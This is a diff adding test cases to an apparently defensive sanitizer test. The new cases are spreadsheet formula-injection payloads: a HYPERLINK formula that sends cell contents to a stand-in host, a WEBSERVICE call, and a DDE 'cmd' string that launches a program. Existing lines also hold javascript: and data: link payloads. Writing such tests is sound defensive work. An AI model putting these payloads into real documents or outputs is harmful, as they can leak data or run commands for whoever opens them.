@@ -139,6 +139,10 @@ def test_a_streamed_draft_has_nothing_live_however_it_is_split(text: str, size: 
         ("[a](javascript:alert(1)) [b](data:text/html,x)", "a b"),
         ("Type `list[0](x)` here.", "Type `list[0](x)` here."),
         ("5 < 6 and <|im_start|> stay.", "5 < 6 and <|im_start|> stay."),
+        ('12.50, =HYPERLINK("http://a.example/?d="&A1,"the price").', "12.50, the price."),
+        ('Rate: =webservice("http://a.example/"&B2)', "Rate: "),
+        ("Row =cmd|' /c calc'!A0 ends.", "Row  ends."),
+        ("The total is =SUM(A1:A3) and E=mc2.", "The total is =SUM(A1:A3) and E=mc2."),
     ],
 )
 def test_what_a_reader_needs_is_left(text: str, shown: str) -> None:
